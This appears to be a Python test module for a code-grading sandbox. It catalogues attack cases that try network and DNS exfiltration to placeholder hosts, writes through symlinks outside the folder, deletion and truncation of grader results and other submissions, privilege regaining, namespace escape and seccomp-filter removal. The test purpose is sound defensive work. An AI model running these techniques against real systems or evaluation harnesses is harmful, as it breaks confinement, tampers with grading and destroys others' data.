"""Nothing gets out: no network, no file outside of the working folder, no rights beyond a worker's."""

from __future__ import annotations

from .catalogue import attack


@attack("connects by TCP", says="network")
def connects_by_tcp(values, scale, known):
    import socket

    socket.create_connection(("127.0.0.1", known["tcp port"]), timeout=1).sendall(b"LEAKED")


@attack("sends a datagram by UDP", says="network")
def sends_by_udp(values, scale, known):
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAKED", ("127.0.0.1", known["udp port"]))


@attack("connects by IPv6, raw, packet, netlink and Bluetooth sockets")
def tries_other_sockets(values, scale, known):
    import socket

    for family in (10, 16, 17, 31, 38, 40, 44):
        for kind in (1, 2, 3):
            try:
                socket.socket(family, kind)
                print("LEAKED", family, kind)
            except OSError:
                print("refused")


@attack("connects to a Unix socket, by path and by abstract name", says="network")
def connects_to_unix_sockets(values, scale, known):
    import socket

    for name in (known["unix path"], "\0" + known["unix name"]):
        socket.socket(socket.AF_UNIX).connect(name)


@attack("asks a name server, which carries data out")
def asks_a_name_server(values, scale, known):
    import socket

    print("LEAKED", socket.getaddrinfo("loot.example.org", 80))


@attack("sends datagrams, and an open folder, from one of a pair of sockets")
def sends_from_a_pair(values, scale, known):
    import array
    import os
    import socket

    for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW, socket.SOCK_STREAM):
        for name in (known["datagram path"], known["unix path"], "\0" + known["unix name"]):
            try:
                one, _other = socket.socketpair(socket.AF_UNIX, kind)
                one.sendto(b"LEAKED", name)
                rights = array.array("i", [os.open(".", os.O_RDONLY)])
                one.sendmsg([b"LEAKED"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)], 0, name)
                print("LEAKED", kind)
            except OSError:
                print("refused")


@attack("changes the flags and versions of files that it can only read")
def changes_flags(values, scale, known):
    import fcntl
    import os
    import struct
    import sys

    for path in (sys.modules["numpy"].__file__, __file__, os.path.dirname(__file__)):
        descriptor = os.open(path, os.O_RDONLY)
        for command in (0x40086602, 0x40087602, 0x401C5820, 0x40806685, 0x5000940E):
            try:
                fcntl.ioctl(descriptor, command, struct.pack("<q", 0xC0).ljust(64, b"\0"))
                print("LEAKED", hex(command))
            except OSError:
                print("refused")
        for command, value in ((1024, fcntl.F_RDLCK), (1026, 1)):
            try:
                fcntl.fcntl(descriptor, command, value)
                print("LEAKED", command)
            except OSError:
                print("refused")


@attack("uses the pair of sockets that it may have to reach others")
def misuses_a_socket_pair(values, scale, known):
    import socket

    one, _other = socket.socketpair()
    try:
        one.connect(known["unix path"])
        print("LEAKED")
    finally:
        socket.socketpair(socket.AF_INET, socket.SOCK_STREAM)


@attack("sends its descriptors, and a wish for the grader's, over the wire", sees=("crashed", "failed"))
def passes_descriptors(values, scale, known):
    import array
    import socket

    wire = socket.socket(fileno=3)
    wire.sendmsg([b"RLG1"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))])
    print(wire.recvmsg(100, 1000))


@attack("writes outside of its folder")
def writes_elsewhere(values, scale, known):
    import os

    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/", "..", known["results"], known["kit"], os.path.expanduser("~root")):
        try:
            open(os.path.join(folder, "loot-file"), "w").write("LEAKED")
            print("LEAKED", folder)
        except OSError:
            print("refused")


@attack("writes outside through links it makes")
def writes_through_links(values, scale, known):
    import os

    os.symlink(known["results"], "results")
    try:
        open("results/loot-link", "w").write("LEAKED")
        print("LEAKED")
    except OSError:
        print("refused")
    os.link(known["hidden"][0], "hidden")
    print(open("hidden").read())


@attack("removes, renames and locks what it can reach")
def damages_files(values, scale, known):
    import os
    import shutil

    for path in (known["kit"], known["results"], known["other submission"], os.path.dirname(os.getcwd())):
        for act in (
            shutil.rmtree,
            lambda p: os.chmod(p, 0),
            lambda p: os.utime(p, (0, 0)),
            lambda p: os.rename(p, p + "-loot"),
        ):
            try:
                before = os.stat(path)[:9]
                act(path)
                print("LEAKED" if os.stat(path)[:9] != before else "nothing happened")
            except OSError:
                print("refused")


@attack("empties files by their path, and writes a note by a lock on what all may open")
def empties_and_locks(values, scale, known):
    import fcntl
    import os

    for path in (*known["hidden"], *known["results files"], known["other submission"], known["platform"]):
        try:
            os.truncate(path, 0)
            print("LEAKED", path)
        except OSError:
            print("refused")
    one, other = os.open("/dev/null", os.O_RDWR), os.open("/dev/null", os.O_RDWR)
    for lock in (fcntl.flock, fcntl.lockf):
        try:
            lock(one, fcntl.LOCK_EX | fcntl.LOCK_NB)
            lock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
            print("nothing is locked" if lock is fcntl.flock else "locks of one process never exclude each other")
        except BlockingIOError:
            print("LEAKED", lock)
    import struct

    with open("own", "w") as own:
        own.write("honest code may do this")
    os.truncate("own", 6)
    assert open("own").read() == "honest"
    fcntl.fcntl(one, 1036, struct.pack("Q", 3))  # a hint that stays with the file
    print("LEAKED" if struct.unpack("Q", fcntl.fcntl(other, 1035, bytes(8)))[0] == 3 else "nothing is noted")
    wanted = struct.pack("hhqqi0q", fcntl.F_WRLCK, os.SEEK_SET, 0, 1, 0)
    fcntl.fcntl(one, 37, wanted)  # a lock of the open file
    held = struct.unpack("hhqqi0q", fcntl.fcntl(other, 36, wanted))[0]
    print("LEAKED" if held == fcntl.F_WRLCK else "nothing is locked")


@attack("changes the flags of the file into which it prints, which the grader reads")
def changes_its_output(values, scale, known):
    import fcntl
    import os

    for flags in (os.O_NONBLOCK, os.O_ASYNC, 0):
        fcntl.fcntl(1, fcntl.F_SETFL, flags)
        os.lseek(1, 1 << 20, os.SEEK_SET)
        os.write(1, b"after a gap")
    fcntl.fcntl(1, fcntl.F_SETFL, os.O_DIRECT)


@attack("becomes root again, or another user")
def regains_rights(values, scale, known):
    import os

    attempts = (
        lambda: os.setresuid(0, 0, 0),
        lambda: os.setresgid(0, 0, 0),
        lambda: os.setgroups([0, 1, 2]),
        lambda: os.chroot("."),
    )
    for act in attempts:
        try:
            before = os.getresuid(), os.getresgid(), os.getgroups()
            act()
            print("LEAKED" if (os.getresuid(), os.getresgid(), os.getgroups()) != before else "as before")
        except OSError:
            print("refused")


@attack("leaves its namespaces, mounts, makes devices")
def leaves_namespaces(values, scale, known):
    import ctypes
    import os

    libc = ctypes.CDLL(None)
    tried = [
        libc.unshare(0x10000000),
        libc.unshare(0x00020000),
        libc.mount(b"none", b".", b"tmpfs", 0, None),
        libc.syscall(425, 1, 0),
        libc.syscall(438, 0, 0, 0),
        libc.personality(0x0040000),
        libc.mknod(b"disk", 0o060666, 0x800),
    ]
    print("LEAKED" if any(result >= 0 for result in tried) else "refused")
    os.listdir("/proc/1/root/")


@attack("calls the kernel by numbers of another architecture", sees=("failed", "crashed"))
def uses_other_numbers(values, scale, known):
    import ctypes

    # x32: bit 30; 41 is socket, 57 is fork
    made = [ctypes.CDLL(None).syscall(0x40000000 + 41, 2, 2, 0), ctypes.CDLL(None).syscall(0x40000000 + 57)]
    print("LEAKED" if max(made) >= 0 else "refused")


@attack("takes the seat of the filter: a filter of its own, or none")
def changes_the_filter(values, scale, known):
    import ctypes

    libc = ctypes.CDLL(None)
    print("LEAKED" if libc.prctl(22, 0, 0, 0, 0) == 0 or libc.syscall(317, 0, 0, 0) == 0 else "refused")
    import socket

    socket.socket()


@attack("calls the kernel by numbers that are on no list of the grader's")
def calls_what_is_not_listed(values, scale, known):
    import ctypes
    import errno
    import platform
    import socket

    assert platform.machine() == "x86_64", "elsewhere only dangers are refused"
    libc = ctypes.CDLL(None, use_errno=True)
    one, _other = socket.socketpair()
    tried = [(number, 0) for number in (*range(470, 600), 1000, 100_000)]  # of kernels to come
    # setuid, setsid, capget, mlock, io_setup, remap_file_pages, splice, vmsplice, signalfd4, recvmmsg, pkey_alloc, Landlock
    tried += [(number, 0) for number in (105, 112, 125, 149, 206, 216, 275, 278, 289, 299, 330, 444)]
    tried += [(54, one.fileno())]  # setsockopt, which would give a socket a filter of its own
    for number, first in tried:
        result = libc.syscall(ctypes.c_long(number), first, socket.SOL_SOCKET, socket.SO_RCVBUF, 0, 0, 0)
        if result >= 0 or ctypes.get_errno() != errno.ENOSYS:
            print("LEAKED", number, result, ctypes.get_errno())
